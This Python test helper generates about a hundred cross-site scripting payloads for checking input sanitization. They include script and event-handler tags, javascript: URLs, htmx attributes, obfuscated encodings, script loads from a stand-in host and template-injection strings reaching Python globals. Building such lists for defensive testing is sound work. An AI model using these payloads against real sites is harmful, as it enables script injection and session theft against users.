"""A hundred comments that try to run a script, each in its own way, in every field at once.

Written for this test. Each sets `window.ran` or opens a dialog if anything of it is executed; none
names a machine that exists.
"""

from __future__ import annotations

from itertools import product

_RUN = "window.ran=1;alert(1)"
_TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=data:,{run}></script>",
    "<script src=//x.example/a.js></script>", "<img src=x onerror={run}>",
    "<img src=x onerror=&#97;lert(1)>", "<svg onload={run}>", "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>", "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>{run}</script>'>",
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<a href=javascript:{run}>x</a>",
    "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//x.example/>", "<link rel=stylesheet href=//x.example/a.css>",
    "<style>@import'//x.example/a.css';</style>", "<style>*{{background:url(//x.example/b)}}</style>",
    "<div style=\"background:url(//x.example/c)\">", "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run} form=bulk>x</button>", "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<div hx-get=/desk/people hx-trigger=load hx-on::load='{run}'>x</div>", "<div hx-on:click={run}>x</div>",
    "<div data-hx-post=/desk/undo data-hx-trigger=load>x</div>", "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>", "<x onclick={run} onmouseover={run} tabindex=0>x",
)  # fmt: skip
_BEFORE = ("", '">', "'>", "</textarea>", "</title>", "</mark></div>")
_WHOLE = (
    "\" onfocus={run} autofocus x=\"", "' onmouseover={run} x='", "javascript:{run}", "`-{run}-`",
    "{{{{ self.__init__.__globals__ }}}}", "{{% for x in ().__class__.__mro__ %}}{{% endfor %}}", "${{{run}}}",
    "\u2028{run}\u2029", "\x00<script>{run}</script>", "&lt;script&gt;{run}&lt;/script&gt;",
    "\u202e<script>{run}</script>", "<scr\x00ipt>{run}</scr\x00ipt>", "＜script＞{run}＜/script＞",
    "</script><script>{run}</script>", "]]><script>{run}</script>", "\\\"><img src=x onerror={run}>",
    "%3Cscript%3E{run}%3C/script%3E", "data:text/html,<script>{run}</script>",
    "<a href=\"jav\tascript:{run}\">x</a>", "<a href=\" &#14; javascript:{run}\">x</a>",
)  # fmt: skip


def payloads() -> list[str]:
    """A hundred of them: every tag, then tags behind what ends an attribute or element."""
    found = [one.format(run=_RUN) for one in (*_WHOLE, *_TAGS)]
    for before, tag in product(_BEFORE[1:], _TAGS):
        found.append(before + tag.format(run=_RUN))
    return found[:60] + found[60::4][:40]
